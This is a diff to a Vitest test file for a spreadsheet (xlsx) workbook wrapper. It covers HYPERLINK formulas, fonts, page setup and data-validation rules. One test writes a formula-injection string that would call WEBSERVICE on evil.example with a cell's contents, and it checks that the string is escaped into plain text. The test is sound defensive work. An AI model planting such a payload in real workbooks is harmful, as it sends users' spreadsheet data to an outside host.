@@ -9,6 +9,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { inflateRawSync } from 'node:zlib';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { readTable, updateRecords } from '../../src/app/repository';
 import { dayOfDate, timestampOfDate } from '../../src/domain/dates';
@@ -161,7 +162,7 @@ describe('writing', () => {
     expect(() => workbook.write('Nowhere', 1, 1, [['a']])).toThrow(/Nowhere/);
   });
 
-  it('writes links to rows of other tabs as internal hyperlinks that read back as their text', async () => {
+  it('writes links to rows of other tabs as HYPERLINK formulas that read back as their text', async () => {
     const workbook = XlsxWorkbook.create();
     workbook.addTab('Compliance');
     workbook.write('Compliance', 1, 1, [['Ref', 'Finding']]);
@@ -169,8 +170,27 @@ describe('writing', () => {
     const back = await reopen(workbook, 'links.xlsx');
     expect(back.read('Compliance')).toEqual([['Ref', 'Finding'], ['M-2026-03', ''], ["O'Brien", '']]);
     const raw = (await rawBook('links.xlsx')).getWorksheet('Compliance');
-    expect(raw?.getCell('A2').value).toEqual({ text: 'M-2026-03', hyperlink: "#'Meetings'!A9" });
-    expect(raw?.getCell('A3').value).toEqual({ text: "O'Brien", hyperlink: "#'Working groups'!A3" });
+    expect(raw?.getCell('A2').value).toEqual({ formula: `HYPERLINK("#'Meetings'!A9","M-2026-03")`, result: 'M-2026-03' });
+    expect(raw?.getCell('A3').value).toEqual({ formula: `HYPERLINK("#'Working groups'!A3","O'Brien")`, result: "O'Brien" });
+    expect(raw?.getCell('A2').font).toMatchObject({ name: 'Calibri', underline: true, color: { argb: 'FF1155CC' } });
+  });
+
+  it('keeps quotes and long text inside the formula’s text, never as formula code', async () => {
+    const workbook = XlsxWorkbook.create();
+    workbook.addTab('Compliance');
+    const sly = '9"),WEBSERVICE("http://evil.example/?"&A1&"';
+    const long = `${'é'.repeat(300)}"${'x'.repeat(300)}`;
+    workbook.writeLinks('Compliance', 1, 1, [[{ text: sly, sheet: 'Say "hi"', row: 2 }, { text: long, sheet: 'Log', row: 7 }]]);
+    await workbook.save(file('sly.xlsx'));
+    const raw = (await rawBook('sly.xlsx')).getWorksheet('Compliance');
+    const a1 = raw?.getCell('A1').value as ExcelJS.CellFormulaValue;
+    expect(a1.formula).toBe(`HYPERLINK("#'Say ""hi""'!A2","9""),WEBSERVICE(""http://evil.example/?""&A1&""")`);
+    const b1 = raw?.getCell('B1').value as ExcelJS.CellFormulaValue;
+    // Excel takes at most 255 characters in one text literal: the text is joined from pieces.
+    const pieces = [...b1.formula.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => (m[1] ?? '').replace(/""/g, '"'));
+    expect(pieces.slice(1).every((p) => p.length <= 255)).toBe(true);
+    expect(pieces.slice(1).join('')).toBe(long);
+    expect((await XlsxWorkbook.open(file('sly.xlsx'))).read('Compliance')).toEqual([[sly, long]]);
   });
 
   it('paints solid fills and clears them', async () => {
@@ -284,6 +304,67 @@ describe('tabs and formats', () => {
     expect(xml.match(/<dataValidation /g)).toHaveLength(3);
     expect(xml).toContain('sqref="B2:B1000"');
   });
+
+  it('names the header font and sets the page up to print one page wide, landscape, the header on every page', async () => {
+    const workbook = XlsxWorkbook.create();
+    workbook.addTab('Compliance');
+    // Formatted before the header is written, as the compliance check does on a new tab.
+    workbook.format('Compliance', { columns: [{ column: 1, header: 'Severity', kind: 'text', choices: [], width: 90 }, { column: 3, header: 'Sheet', kind: 'text', choices: [], width: 90 }] });
+    workbook.write('Compliance', 1, 1, [['Severity', 'Rule', 'Sheet', 'Mine']]);
+    await workbook.save(file('page.xlsx'));
+    const sheet = (await rawBook('page.xlsx')).getWorksheet('Compliance');
+    for (const address of ['A1', 'B1', 'C1']) expect(sheet?.getCell(address).font).toMatchObject({ name: 'Calibri', family: 2, bold: true });
+    expect(sheet?.getCell('D1').font?.bold).toBeFalsy();
+    expect(sheet?.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '1:1' });
+  });
+
+  it('keeps one rule per column range through open and save cycles that do not format', async () => {
+    const workbook = XlsxWorkbook.create();
+    workbook.addTab('Meetings');
+    workbook.write('Meetings', 1, 1, [['ID', 'Kind', 'Done']]);
+    workbook.format('Meetings', {
+      columns: [
+        { column: 2, header: 'Kind', kind: 'choice', choices: ['Regular', 'Annual'], width: 140 },
+        { column: 3, header: 'Done', kind: 'yesno', choices: [], width: 90 },
+      ],
+    });
+    let name = 'cycle-0.xlsx';
+    await workbook.save(file(name));
+    for (const next of ['cycle-1.xlsx', 'cycle-2.xlsx']) {
+      await (await XlsxWorkbook.open(file(name))).save(file(next));
+      name = next;
+    }
+    const xml = await zipEntry(name, 'xl/worksheets/sheet1.xml');
+    expect(xml.match(/<dataValidation [^>]*sqref="[^"]*"/g)?.map((v) => /sqref="([^"]*)"/.exec(v)?.[1])).toEqual(['B2:B1000', 'C2:C1000']);
+  });
+
+  it('keeps a rule that covers part of a column, or single cells, as it was', async () => {
+    const name = await exceljsFile('partial.xlsx', (book) => {
+      const sheet = book.addWorksheet('Members');
+      sheet.addRow(['Agency', 'Status']);
+      const rule: ExcelJS.DataValidation = { type: 'list', formulae: ['"Active,Inactive"'], allowBlank: true };
+      for (const address of ['B2', 'B3', 'B4', 'B9']) sheet.getCell(address).dataValidation = rule;
+      sheet.getCell('B5').dataValidation = { type: 'list', formulae: ['"Other"'], allowBlank: true };
+    });
+    await (await XlsxWorkbook.open(name)).save(file('partial-after.xlsx'));
+    const xml = await zipEntry('partial-after.xlsx', 'xl/worksheets/sheet1.xml');
+    expect([...xml.matchAll(/sqref="([^"]*)"/g)].map((m) => m[1]).sort()).toEqual(['B2:B4', 'B5', 'B9']);
+  });
+
+  it('keeps fit-to-page of a tab LibreOffice saved (it writes fitToPage="true", which exceljs reads as false)', async () => {
+    const workbook = XlsxWorkbook.create();
+    workbook.addTab('Log');
+    workbook.write('Log', 1, 1, [['Timestamp']]);
+    workbook.format('Log', { columns: [] });
+    await workbook.save(file('fit.xlsx'));
+    const zip = await JSZip.loadAsync(await readFile(file('fit.xlsx')));
+    const xml = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
+    expect(xml).toContain('<pageSetUpPr fitToPage="1"/>');
+    zip.file('xl/worksheets/sheet1.xml', xml.replace('fitToPage="1"', 'fitToPage="true"'));
+    await writeFile(file('fit-lo.xlsx'), await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
+    await (await XlsxWorkbook.open(file('fit-lo.xlsx'))).save(file('fit-after.xlsx'));
+    expect(await zipEntry('fit-after.xlsx', 'xl/worksheets/sheet1.xml')).toContain('<pageSetUpPr fitToPage="1"/>');
+  });
 });
 
 describe('formatting a user’s tab', () => {
@@ -360,7 +441,7 @@ describe('files that are not workbooks', () => {
     for (const [name, message] of [
       ['missing.xlsx', /missing\.xlsx: no such file$/],
       ['folder.xlsx', /folder\.xlsx: not a file$/],
-      ['notes.xlsx', /notes\.xlsx: not an \.xlsx workbook/],
+      ['notes.xlsx', /notes\.xlsx: not an \.xlsx workbook but a text file/],
     ] as const) {
       const error = await XlsxWorkbook.open(file(name)).catch((e: unknown) => e);
       expect(error).toBeInstanceOf(WorkbookFileError);
